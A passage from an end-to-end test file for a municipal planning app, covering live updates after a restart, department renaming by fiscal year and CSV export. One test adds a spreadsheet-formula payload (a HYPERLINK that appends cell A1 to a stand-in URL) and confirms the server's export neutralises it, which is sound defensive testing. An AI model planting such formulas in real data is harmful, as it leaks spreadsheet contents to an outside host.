    server = await runServer(env(), { startTimeoutMs: 150_000 });
    // A write right after the restart, perhaps before the page has reconnected.
    const plan = await kyoiku2012();
    const last = plan?.initiatives.edges[2]?.node;
    if (!last) throw new Error('no initiative');
    const text = `${last.text}(再起動後の変更)`;
    expect(await updateInitiative({ id: last.id, expectedVersion: last.version, text })).toBe(
      'UpdateInitiativeSuccess',
    );
    await expect
      .poll(() => page.getByTestId('connection').getAttribute('data-state'), { timeout: 20_000 })
      .toBe('live');
    await expect
      .poll(() => page.getByTestId('initiative-text').nth(2).textContent(), { timeout: 10_000 })
      .toBe(text);
    await page.close();
  }, 240_000);

  it('names a department as it was in the year shown, and downloads the server’s own CSV export', async () => {
    const graphql = async (query: string, variables: Record<string, unknown>, token: string) => {
      const response = await fetch(`${server.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
        body: JSON.stringify({ query, variables }),
      });
      return ((await response.json()) as { data: any }).data;
    };
    // A text that a spreadsheet would run as a formula, in 教育部's FY2012 plan.
    const plan = await kyoiku2012();
    const formula = '=HYPERLINK("https://example.invalid/?q="&A1,"詳細")';
    expect(
      await mutate(
        'mutation ($input: AddInitiativeInput!) { addInitiative(input: $input) { __typename } }',
        { plan: plan?.id, text: formula },
      ),
    ).toBe('AddInitiativeSuccess');
    // A FY2014 plan (the staff-mode test wrote FY2013's), then 教育部 renamed from FY2013 on.
    const created = await graphql(
      `mutation ($input: CreatePlanInput!) { createPlan(input: $input) { __typename ... on CreatePlanSuccess { plan { id version } } } }`,
      {
        input: {
          municipality: MUNICIPALITY,
          department: 'kyoiku',
          fiscalYear: 2014,
          mission: '翌々年度',
        },
      },
      planningToken,
    );
    const draft = created.createPlan.plan;
    if (!draft) throw new Error(JSON.stringify(created));
    expect(
      await mutate(
        'mutation ($input: PlanVersionInput!) { publishPlan(input: $input) { __typename } }',
        { id: draft.id, expectedVersion: draft.version },
      ),
    ).toBe('PublishPlanSuccess');
    const { department } = await graphql(
      `{ department(municipality: "${MUNICIPALITY}", code: "kyoiku") { id version } }`,
      {},
      adminToken,
    );
    const renamed = await graphql(
      'mutation ($input: UpdateDepartmentInput!) { updateDepartment(input: $input) { __typename } }',
      {
        input: {
          id: department.id,
          expectedVersion: department.version,
          name: 'こども教育部',
          renamedFrom: 2013,
        },
      },
      adminToken,
    );
    expect(renamed.updateDepartment.__typename).toBe('UpdateDepartmentSuccess');

    const page = await openPage('browse?y=2012&d=kyoiku');
    await expect.poll(() => page.getByTestId('department-name').textContent()).toBe('教育部');
    await page.goto(appUrl('browse?y=2014&d=kyoiku'));
    await expect
      .poll(() => page.getByTestId('department-name').textContent(), { timeout: 10_000 })
      .toBe('こども教育部');

    // The download is the server's export with the view's filters, byte for byte.
    await page.goto(appUrl('browse?y=2012&d=kyoiku'));
    await expect.poll(() => page.getByTestId('initiative').count()).toBeGreaterThan(3);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('download-csv').click(),
    ]);
    expect(download.suggestedFilename()).toBe('initiatives-132047-2012-kyoiku.csv');
    const downloaded = await readFile((await download.path()) as string);
    const served = Buffer.from(
      await (
        await fetch(
          `${server.url}/export/initiatives.csv?municipality=${MUNICIPALITY}&fiscalYear=2012&department=kyoiku`,
        )
      ).arrayBuffer(),
    );
    expect(downloaded.equals(served)).toBe(true);
    // Opened in a spreadsheet, the formula is a text: the server quoted it.
    expect(downloaded.toString('utf8')).toContain(`"'=HYPERLINK(""https://example.invalid`);
    await page.close();
  }, 120_000);
});
